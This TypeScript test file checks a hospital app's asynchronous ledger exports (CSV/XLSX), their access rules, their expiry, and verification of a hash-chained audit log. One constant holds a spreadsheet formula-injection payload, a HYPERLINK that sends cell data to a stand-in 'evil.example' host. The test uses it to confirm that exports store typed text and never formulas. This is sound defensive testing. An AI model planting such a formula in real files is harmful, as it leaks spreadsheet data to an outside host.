import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { existsSync } from 'node:fs';
import type { Response } from 'supertest';
import { createAuditTriggers, dropAuditTriggers } from '../migrations/audit-triggers';
import { Clock } from '../src/common/clock';
import { JobEntity } from '../src/jobs/job.entity';
import { Jobs } from '../src/jobs/jobs';
import { LEDGER_COLUMNS } from '../src/reports/ledger';
import { ReportsService } from '../src/reports/reports.service';
import { Flow } from './support/flow';
import { Hospital, seedHospital } from './support/hospital';
import { TestApp, startApp } from './support/test-app';

const onPostgres = /^postgres/.test(process.env.DATABASE_URL ?? '');

type Who = keyof Hospital['users'];

/** Collects a binary body as a Buffer. */
const binary = (response: Response, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => done(null, Buffer.concat(chunks)));
};

/** Every row of the ledger sheet, as text, and each cell's type. */
async function sheetOf(body: Buffer): Promise<{ text: string[][]; types: ExcelJS.ValueType[][] }> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(body as never);
  const text: string[][] = [];
  const types: ExcelJS.ValueType[][] = [];
  book.getWorksheet('问题台账')!.eachRow((row) => {
    const cells: ExcelJS.Cell[] = [];
    row.eachCell({ includeEmpty: true }, (cell) => cells.push(cell));
    text.push(cells.map((cell) => cell.text));
    types.push(cells.map((cell) => cell.type));
  });
  return { text, types };
}

const column = (key: string) => LEDGER_COLUMNS.findIndex((c) => c.key === key);
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"title")';

describe(`export and verification jobs (${onPostgres ? 'PostgreSQL' : 'SQLite'})`, () => {
  let t: TestApp;
  let h: Hospital;
  let flow: Flow;
  let now: Date;

  beforeAll(async () => {
    t = await startApp();
    h = await seedHospital(t);
    flow = new Flow(t, h);
    now = new Date('2026-11-02T02:00:00Z');
    jest.spyOn(t.app.get(Clock), 'now').mockImplementation(() => new Date(now));
    for (const title of [FORMULA, 'second', 'third']) await flow.assignedFinding('administrative', { title });
    const surgeryRound = await flow.startedRound('administrative', h.departments.surgery);
    await flow.logFinding(surgeryRound, 'administrative', { title: 'surgery finding', responsibleDepartmentId: h.departments.surgery });
    await flow.as('lead').post(`/rounds/${surgeryRound}/events`, { type: 'SUBMIT' }).expect(200);
    now = new Date('2026-11-20T02:00:00Z');
  });

  afterAll(() => t.close());

  const download = (who: Who, path: string) => flow.as(who).get(path).buffer(true).parse(binary).expect(200);
  const start = async (who: Who, body: object, headers: Record<string, string> = {}) =>
    (await flow.as(who).post('/reports/exports', body, headers).expect(202)).body as { id: string; status: string };
  /** Polls the job until it ends; answers every answer seen. */
  const until = async (who: Who, path: string) => {
    const seen: { status: string; [key: string]: unknown }[] = [];
    for (;;) {
      const job = (await flow.as(who).get(path).expect(200)).body;
      seen.push(job);
      if (job.status === 'done' || job.status === 'failed') return seen;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };
  const finishedExport = async (who: Who, body: object) => {
    const { id } = await start(who, body);
    const seen = await until(who, `/reports/exports/${id}`);
    return { id, seen, job: seen[seen.length - 1] };
  };

  describe('ledger exports', () => {
    it('reports its progress, then serves the file the synchronous export makes for the same filters', async () => {
      // Held after the rows are counted, so the job is seen running part-way.
      let release!: () => void;
      const held = new Promise<void>((resolve) => (release = resolve));
      const reports = t.app.get(ReportsService);
      const write = reports.writeLedger.bind(reports);
      const spy = jest.spyOn(reports, 'writeLedger').mockImplementationOnce((auth, query, format, output, at, progress) =>
        write(auth, query, format, output, at, async (rows, total) => {
          await progress?.(rows, total);
          if (rows === 0) await held;
        }),
      );
      const filters = { responsibleDepartmentId: h.departments.cardiology, createdFrom: '2026-11-01' };
      const { id, status } = await start('discipline', { format: 'csv', ...filters });
      expect(status).toBe('queued');
      let running;
      do running = (await flow.as('discipline').get(`/reports/exports/${id}`).expect(200)).body;
      while (running.total === null);
      expect(running).toMatchObject({ id, status: 'running', rows: 0, total: 3, format: 'csv', filters, finishedAt: null });
      await flow.as('discipline').get(`/reports/exports/${id}/file`).expect(409);
      release();
      const seen = await until('discipline', `/reports/exports/${id}`);
      spy.mockRestore();
      const order = ['queued', 'running', 'done'];
      for (const [before, after] of seen.slice(1).map((job, i) => [seen[i], job])) expect(order.indexOf(after.status)).toBeGreaterThanOrEqual(order.indexOf(before.status));
      for (const job of seen) if (job.total !== null) expect(job.rows as number).toBeLessThanOrEqual(job.total as number);
      expect(seen[seen.length - 1]).toMatchObject({ status: 'done', rows: 3, total: 3, finishedAt: expect.any(String) });

      const file = await download('discipline', `/reports/exports/${id}/file`);
      const direct = await download('discipline', `/reports/ledger?format=csv&responsibleDepartmentId=${h.departments.cardiology}&createdFrom=2026-11-01`);
      expect(file.headers['content-disposition']).toBe(direct.headers['content-disposition']);
      expect(file.headers['content-type']).toBe(direct.headers['content-type']);
      expect((file.body as Buffer).toString('utf8')).toBe((direct.body as Buffer).toString('utf8'));
      expect(parse((file.body as Buffer).toString('utf8').slice(1))).toHaveLength(1 + 3);
    });

    it('writes the same xlsx as the synchronous export, what people typed as inline strings, never formulas', async () => {
      const { id, job } = await finishedExport('discipline', { format: 'xlsx', state: 'assigned' });
      expect(job).toMatchObject({ status: 'done', rows: 4, total: 4 });
      const file = await sheetOf((await download('discipline', `/reports/exports/${id}/file`)).body);
      const direct = await sheetOf((await download('discipline', '/reports/ledger?format=xlsx&state=assigned')).body);
      expect(file.text).toEqual(direct.text);
      const row = file.text.findIndex((cells) => cells[column('title')] === FORMULA);
      expect(file.types[row][column('title')]).toBe(ExcelJS.ValueType.RichText);
      expect(file.types.flat()).not.toContain(ExcelJS.ValueType.Formula);
    });

    it("is the asker's alone: anyone else gets 404 for the job and its file", async () => {
      const { id } = await finishedExport('discipline', { format: 'csv' });
      for (const who of ['surgeryStaff', 'auditor', 'admin'] as const) {
        await flow.as(who).get(`/reports/exports/${id}`).expect(404);
        await flow.as(who).get(`/reports/exports/${id}/file`).expect(404);
      }
      await flow.as('discipline').get('/reports/exports/00000000-0000-4000-8000-000000000000').expect(404);
    });

    it("holds what the asker may see: a department's staff get their department's rows", async () => {
      const { id, job } = await finishedExport('cardiologyStaff', { format: 'csv' });
      expect(job).toMatchObject({ status: 'done', rows: 3, total: 3 });
      const records: string[][] = parse((await download('cardiologyStaff', `/reports/exports/${id}/file`)).body.toString('utf8').slice(1));
      expect(new Set(records.slice(1).map((record) => record[column('department')]))).toEqual(new Set(['CARD']));
      const surgery = await finishedExport('surgeryStaff', { format: 'csv' });
      expect(surgery.job).toMatchObject({ status: 'done', rows: 1, total: 1 });
    });

    it('refuses bad filters with a 400 naming each field, and starts nothing', async () => {
      const count = async () => (await t.dataSource.manager.count(JobEntity));
      const jobs = await count();
      const bad = await flow.as('discipline').post('/reports/exports', { format: 'pdf', createdFrom: '2026-13-01', severity: 'huge' }).expect(400);
      expect(bad.body.details.map((p: { field: string }) => p.field).sort()).toEqual(['createdFrom', 'format', 'severity']);
      const missing = await flow.as('discipline').post('/reports/exports', {}).expect(400);
      expect(missing.body.details.map((p: { field: string }) => p.field)).toEqual(['format']);
      // The page's fields are not the export's.
      await flow.as('discipline').post('/reports/exports', { format: 'csv', limit: 5 }).expect(400);
      expect(await count()).toBe(jobs);
    });

    it('is recorded as a data-access event, once per job; an Idempotency-Key replays the job and starts no other', async () => {
      await t.linked();
      const since = (await flow.as('discipline').get('/audit/head').expect(200)).body.seq as number;
      const first = await start('cardiologyStaff', { format: 'xlsx', severity: 'major' }, { 'Idempotency-Key': 'export-1' });
      const retry = await start('cardiologyStaff', { format: 'xlsx', severity: 'major' }, { 'Idempotency-Key': 'export-1' });
      expect(retry).toEqual(first);
      await until('cardiologyStaff', `/reports/exports/${first.id}`);
      await t.linked();
      const page = (await flow.as('discipline').get(`/audit?entityType=data_access&actorId=${h.users.cardiologyStaff.id}&limit=500`).expect(200)).body;
      expect(page.items.filter((entry: { seq: number }) => entry.seq > since)).toEqual([
        expect.objectContaining({ event: 'LEDGER_EXPORTED', payload: { format: 'xlsx', filter: { severity: 'major' }, rows: 3, address: expect.any(String) } }),
      ]);
    });

    it('expires with its file; a job whose instance stopped reporting is failed', async () => {
      const jobs = t.app.get(Jobs);
      const { id } = await finishedExport('discipline', { format: 'csv' });
      expect(existsSync(jobs.fileOf(id))).toBe(true);

      const stopped = await finishedExport('discipline', { format: 'csv' });
      await t.dataSource.manager.update(JobEntity, { id: stopped.id }, { status: 'running', finishedAt: null, updatedAt: new Date(now.getTime() - 6 * 60_000) });
      expect((await flow.as('discipline').get(`/reports/exports/${stopped.id}`).expect(200)).body).toMatchObject({ status: 'failed', error: 'the instance running it stopped' });
      await jobs.housekeep();
      expect(await t.dataSource.manager.findOneBy(JobEntity, { id: stopped.id })).toMatchObject({ status: 'failed', finishedAt: expect.any(Date) });

      now = new Date(now.getTime() + 25 * 3_600_000);
      await flow.as('discipline').get(`/reports/exports/${id}`).expect(404);
      await flow.as('discipline').get(`/reports/exports/${id}/file`).expect(404);
      await jobs.housekeep();
      expect(await t.dataSource.manager.findOneBy(JobEntity, { id })).toBeNull();
      expect(existsSync(jobs.fileOf(id))).toBe(false);
    });
  });

  describe('audit verification jobs', () => {
    const verified = async (who: Who) => {
      const { id } = (await flow.as(who).post('/audit/verifications', {}).expect(202)).body;
      const seen = await until(who, `/audit/verifications/${id}`);
      return { id, job: seen[seen.length - 1] };
    };

    it('recomputes the whole chain: every entry checked, ok, as GET /audit/verify answers', async () => {
      await t.linked();
      const head = (await flow.as('discipline').get('/audit/head').expect(200)).body.seq as number;
      const { id, job } = await verified('discipline');
      expect(job).toMatchObject({ id, status: 'done', ok: true, checked: head, total: head, headSeq: head, finishedAt: expect.any(String) });
      const direct = (await flow.as('discipline').get('/audit/verify').expect(200)).body;
      expect(direct).toMatchObject({ ok: true, checked: direct.headSeq });
      await flow.as('admin').get(`/audit/verifications/${id}`).expect(404);
      await flow.as('cardiologyStaff').post('/audit/verifications', {}).expect(403);
    });

    it('reports the first broken entry after tampering', async () => {
      const { items } = (await flow.as('discipline').get('/audit?limit=1').expect(200)).body;
      const seq = Number(items[0].seq);
      const runner = t.dataSource.createQueryRunner();
      try {
        await dropAuditTriggers(runner);
        await runner.query(`UPDATE "audit_entries" SET "payload" = '{"tampered":true}' WHERE "seq" = ${seq}`);
        await createAuditTriggers(runner, { sealing: true });
      } finally {
        await runner.release();
      }
      const { job } = await verified('admin');
      expect(job).toMatchObject({
        status: 'done',
        ok: false,
        firstBroken: { seq, reason: "the stored hash does not match the entry's content and the previous entry's hash" },
      });
      expect(job.checked).toBe(job.total);
    });
  });
});
